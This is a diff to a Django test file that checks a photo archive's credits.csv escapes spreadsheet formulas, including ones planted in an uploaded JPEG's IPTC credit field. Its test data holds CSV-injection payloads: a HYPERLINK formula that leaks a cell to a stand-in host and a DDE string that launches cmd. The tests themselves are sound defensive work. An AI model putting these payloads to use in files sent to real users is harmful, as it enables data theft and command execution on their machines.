@@ -10,9 +10,11 @@ import zipfile
 from datetime import timedelta
 from urllib.parse import urlsplit
 
+import pyexiv2
 import pytest
 import time_machine
 from django.core.files.storage import FileSystemStorage
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.test import Client
 from django.urls import reverse
@@ -307,3 +309,65 @@ def test_a_range_reads_no_file_before_it(client, photo_set, monkeypatch):
 
     assert tail == whole[-2000:]
     assert opened == [last.file.name]  # the last photo's end and the credits, nothing before
+
+
+# credits.csv opened in a spreadsheet --------------------------------------------------
+
+
+def credits_rows(client, photo_set):
+    archive = zipfile.ZipFile(io.BytesIO(body(client.get(zip_url(photo_set)))))
+    return list(csv.DictReader(io.StringIO(archive.read("credits.csv").decode("utf-8-sig"))))
+
+
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+1+1",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_no_cell_of_credits_csv_runs_as_a_formula(client, newsroom):
+    photo_set = make_photo_set(newsroom, title="Hockenheim", slug="hockenheim")
+    for n, formula in enumerate(FORMULAS):
+        make_photo(photo_set, title=f"Photo {n}", caption=formula, credit=formula, position=n)
+    make_photo(photo_set, title="Plain", caption="Third at Hockenheim – a podium", position=99)
+
+    rows = credits_rows(client, photo_set)
+
+    assert [row["caption"] for row in rows] == [f"'{f}" for f in FORMULAS] + [
+        "Third at Hockenheim – a podium"
+    ]
+    assert [row["credit"] for row in rows[: len(FORMULAS)]] == [f"'{f}" for f in FORMULAS]
+    assert rows[-1]["width"] == "600" and rows[-1]["title"] == "Plain"
+
+
+def test_a_formula_in_the_iptc_credit_of_an_uploaded_file_is_neutralised(
+    client, editor_client, newsroom, django_capture_on_commit_callbacks
+):
+    photo_set = make_photo_set(newsroom, title="Agency photos", slug="agency")
+    with pyexiv2.ImageData(jpeg_bytes(800, 600)) as image:
+        image.modify_iptc(
+            {
+                "Iptc.Envelope.CharacterSet": "\x1b%G",
+                "Iptc.Application2.Credit": '=HYPERLINK("http://evil","x")',
+                "Iptc.Application2.Caption": "@SUM(A1:A9)",
+            }
+        )
+        agency_file = image.get_bytes()
+
+    with django_capture_on_commit_callbacks(execute=True):  # the renditions' task
+        response = editor_client.post(
+            reverse("admin:media_photoset_upload", args=[photo_set.pk]),
+            {"files": [SimpleUploadedFile("agency.jpg", agency_file, "image/jpeg")]},
+            headers={"Accept": "application/json"},
+        )
+
+    assert response.json()["results"][0]["saved"]
+    assert Photo.objects.get().credit == '=HYPERLINK("http://evil","x")'  # kept as written
+    [row] = credits_rows(Client(), photo_set)
+    assert row["credit"] == '\'=HYPERLINK("http://evil","x")'
+    assert row["caption"] == "'@SUM(A1:A9)"
